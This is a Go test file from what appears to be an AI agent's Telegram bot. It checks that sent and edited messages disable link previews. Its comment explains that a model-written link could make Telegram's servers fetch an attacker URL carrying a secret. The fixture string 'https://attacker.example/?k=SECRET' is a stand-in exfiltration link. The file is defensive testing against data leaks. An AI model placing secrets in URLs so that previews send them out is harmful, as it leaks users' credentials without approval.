package telegram

import (
	"context"
	"strings"
	"testing"

	"pincer/agent/agenttest"
)

// TestEveryMessageDisablesLinkPreviews checks that no message the bot
// sends or edits lets Telegram fetch a link preview. The model writes the
// answers, and a preview is a request Telegram's servers make to a URL the
// model chose, with whatever the model put in it (a secret it read in
// the query string), nobody approving it: the plain-text resend after
// Telegram refused the HTML is a message like any other.
func TestEveryMessageDisablesLinkPreviews(t *testing.T) {
	t.Parallel()
	const link = "see https://attacker.example/?k=SECRET"
	cases := []struct {
		name   string
		method string
		do     func(b *Bot)
	}{
		{"send", "sendMessage", func(b *Bot) { b.send(context.Background(), 5, link, link, nil) }},
		{"send refused as HTML, resent plain", "sendMessage", func(b *Bot) { b.send(context.Background(), 5, "<u>"+link+"</u>", link, nil) }},
		{"edit", "editMessageText", func(b *Bot) { b.edit(context.Background(), 5, 1, link, link, nil) }},
		{"edit refused as HTML, redone plain", "editMessageText", func(b *Bot) { b.edit(context.Background(), 5, 1, "<u>"+link+"</u>", link, nil) }},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			t.Parallel()
			api := newFakeAPI(t)
			model := agenttest.New()
			defer model.Close()
			r := startBot(t, api, model, "")
			tc.do(r.bot)
			calls := api.callsOf(tc.method)
			if len(calls) == 0 {
				t.Fatalf("no %s was made", tc.method)
			}
			for i, c := range calls {
				if c.Refused {
					continue
				}
				if p := c.Form["link_preview_options"]; !strings.Contains(p, `"is_disabled":true`) {
					t.Errorf("%s #%d (parse_mode %q) lets Telegram preview the link: link_preview_options = %q", tc.method, i, c.Form["parse_mode"], p)
				}
			}
		})
	}
}
